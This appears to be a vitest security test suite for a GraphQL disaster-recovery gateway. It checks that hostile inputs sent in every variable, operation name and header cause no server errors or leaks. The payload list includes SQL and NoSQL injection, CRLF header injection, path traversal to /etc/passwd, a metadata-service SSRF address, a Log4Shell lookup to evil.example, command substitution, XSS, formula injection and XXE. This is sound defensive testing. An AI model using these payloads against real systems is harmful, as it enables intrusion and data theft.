import { afterAll, beforeAll, expect, test } from 'vitest'
import { expectNoInnards, startAttackRig, type AttackRig } from './attack-rig.ts'

// V1, V3, D4: texts that mean something to whatever stands behind, in every place where a caller may put one.

let rig: AttackRig
let targetId = ''
beforeAll(async () => {
  rig = await startAttackRig(['dr:read', 'dr:operate', 'dr:audit'])
  const { text } = await rig.ask('{ protectionGroups(first: 1) { nodes { id } } }')
  targetId = /"id":"([^"]+)"/.exec(text)?.[1] ?? ''
})
afterAll(() => rig[Symbol.asyncDispose]())

const toId = (text: string): string => Buffer.from(text).toString('base64url')

const texts: readonly (readonly [string, string])[] = [
  ['SQL', `' OR 1=1; DROP TABLE task; --`],
  ['SQL by UNION', `x" UNION SELECT name, sql FROM sqlite_master --`],
  ['a LIKE of everything', '%_%'],
  ['an operator of a document store', '{"$ne": null}'],
  ['an operator that runs a script', '{"$where": "sleep(10000)"}'],
  ['a new header', 'x\r\nX-Evil: 1\r\n\r\nDELETE /v1/vpgs/1 HTTP/1.1'],
  ['a line feed alone', 'x\nevil'],
  ['a NUL', 'x\0y'],
  ['a path that climbs', '../../../../etc/passwd'],
  ['a path that climbs in disguise', '..%2f..%2f%2e%2e/'],
  ['a query of another kind', 'x?force=true&y=1#z'],
  ['an address', 'http://169.254.169.254/latest/meta-data/'],
  ['a matrix parameter', 'x;jsessionid=1'],
  ['a template', '${7*7} {{7*7}} #{7*7} <%= 7*7 %>'],
  ['a look-up of a logger', '${jndi:ldap://evil.example/a}'],
  ['a format', '%s%s%n%x %o %j'],
  ['a command', '`id` $(id) ; id | id & id'],
  ['a script', '<script>alert(1)</script>"><img src=x onerror=alert(1)>'],
  ['a formula', "=cmd|' /C calc'!A0"],
  ['a prototype', '__proto__'],
  ['a constructor', 'constructor'],
  ['a method', 'toString'],
  ['a direction that turns round', '\u202Etxt.exe\u2066'],
  ['a text without width', '\u200B\uFEFF'],
  ['a lone surrogate', '\uD800'],
  ['letters that fall together', '\uFB01\u0130\u212A ﷺ'],
  ['a terminal sequence', '\u001B[2J\u001B]0;evil\u0007'],
  ['an XML entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "expect://id">]><x>&e;</x>'],
  ['a regular expression that never ends', `${'a'.repeat(5_000)}!(a+)+$`],
  ['100,000 letters', 'x'.repeat(100_000)],
  ['nothing', ''],
  ['blanks', ' \t '],
]

/** Every kind of place: what is asked there, and with what. */
const places: readonly (readonly [string, string, (text: string) => object])[] = [
  ['an id', 'query ($s: ID!) { node(id: $s) { id } }', (s) => ({ s })],
  ['a list of ids', 'query ($s: [ID!]!) { nodes(ids: $s) { id } }', (s) => ({ s: [s, s] })],
  [
    'the native part of an id',
    'query ($s: ID!) { node(id: $s) { id } }',
    (s) => ({ s: toId(`ProtectionGroup:ZERTO:${s}`) }),
  ],
  [
    'the native part of an id of the other vendor',
    'query ($s: ID!) { node(id: $s) { id } }',
    (s) => ({ s: toId(`Replication:VCDA:${s}`) }),
  ],
  ['the vendor of an id', 'query ($s: ID!) { node(id: $s) { id } }', (s) => ({ s: toId(`Replication:${s}:1`) })],
  ['the kind of an id', 'query ($s: ID!) { node(id: $s) { id } }', (s) => ({ s: toId(`${s}:ZERTO:1`) })],
  ['a cursor of tasks', 'query ($s: String) { tasks(first: 1, after: $s) { nodes { id } } }', (s) => ({ s })],
  [
    'an id in a filter',
    'query ($s: ID!) { replications(first: 1, filter: { siteIds: [$s] }) { totalCount } }',
    (s) => ({ s }),
  ],
  ['a cursor', 'query ($s: String) { replications(first: 1, after: $s) { totalCount } }', (s) => ({ s })],
  [
    'an organisation',
    'query ($s: String!) { replications(first: 1, filter: { organizations: [$s] }) { totalCount } }',
    (s) => ({ s }),
  ],
  [
    'the caller of an audit entry',
    'query ($s: String!) { auditLog(first: 1, filter: { callers: [$s] }) { nodes { caller } } }',
    (s) => ({ s }),
  ],
  ['a time', 'query ($s: DateTime) { auditLog(first: 1, filter: { from: $s }) { nodes { caller } } }', (s) => ({ s })],
  ['a token', 'mutation ($s: String!) { refreshSession(token: $s) { name } }', (s) => ({ s })],
  [
    'the target of a mutation',
    'mutation ($s: ID!) { pauseReplication(input: { targetId: $s, idempotencyKey: "k" }) { __typename } }',
    (s) => ({ s: toId(`ProtectionGroup:ZERTO:${s}`) }),
  ],
  [
    'a key for something that may not be done',
    'mutation ($s: String!, $id: ID!) { failover(input: { targetId: $id, idempotencyKey: $s }) { __typename } }',
    (s) => ({ s, id: targetId }),
  ],
  [
    'the reason for something that may not be done',
    'mutation ($s: String!, $id: ID!, $k: String!) { failover(input: { targetId: $id, idempotencyKey: $k, reason: $s }) { __typename } }',
    (s) => ({ s, id: targetId, k: crypto.randomUUID() }),
  ],
  ['the name of an operation', 'query Viewer { viewer { name } }', () => ({})],
]

test.each(places)('%s is a place that the schema has', async (_place, query, toVariables) => {
  const { text } = await rig.post(JSON.stringify({ query, variables: toVariables('2026-01-01T00:00:00Z') }))
  expect(text).not.toMatch(/GRAPHQL_VALIDATION_FAILED|Cannot query|Unknown|is not defined|got invalid/)
})

test.each(texts)('%s is data in every place, on both transports, and reaches no vendor', async (_what, text) => {
  const bare = await rig.openSocket()
  for (const [place, query, toVariables] of places) {
    const variables = toVariables(text)
    const operationName = place === 'the name of an operation' ? text : undefined
    const { status, text: overHttp } = await rig.post(JSON.stringify({ query, variables, operationName }))
    expect([place, status < 500]).toEqual([place, true])
    const [overSocket = ''] = await bare.run({ query, variables, operationName })
    for (const answer of [overHttp, overSocket]) {
      // A caller is told his own words again, which are not the gateway's.
      const told = answer.replaceAll(JSON.stringify(text).slice(1, -1), '')
      expectNoInnards(text === '' ? answer : told)
      expect([place, told.includes('INTERNAL_SERVER_ERROR')]).toEqual([place, false])
    }
  }
  bare.socket.terminate()
  await rig.expectUnharmed()
})

test.each(['x-request-id', 'traceparent', 'last-event-id', 'origin', 'authorization', 'accept'])(
  'hostile values of the header %s are no harm, and come back in no header',
  async (name) => {
    for (const [, text] of texts) {
      // What cannot stand in a header at all is sent byte for byte in the vectors of HTTP itself.
      const value = Buffer.from(text)
        .toString('latin1')
        .replaceAll(/[^\t\u0020-\u00FF]|\u007F/g, '?')
      if (value.length > 10_000) continue
      const { status, headers, text: answer } = await rig.post('{"query":"{ viewer { name } }"}', { [name]: value })
      expect(status).toBeLessThan(500)
      expectNoInnards(answer)
      expect(Object.keys(headers)).not.toContain('x-evil')
      const isPlain = /^[\w.:-]{1,64}$/.test(value)
      expect(headers['x-request-id'] === value && !isPlain).toBe(false)
    }
    await rig.expectUnharmed()
  },
)
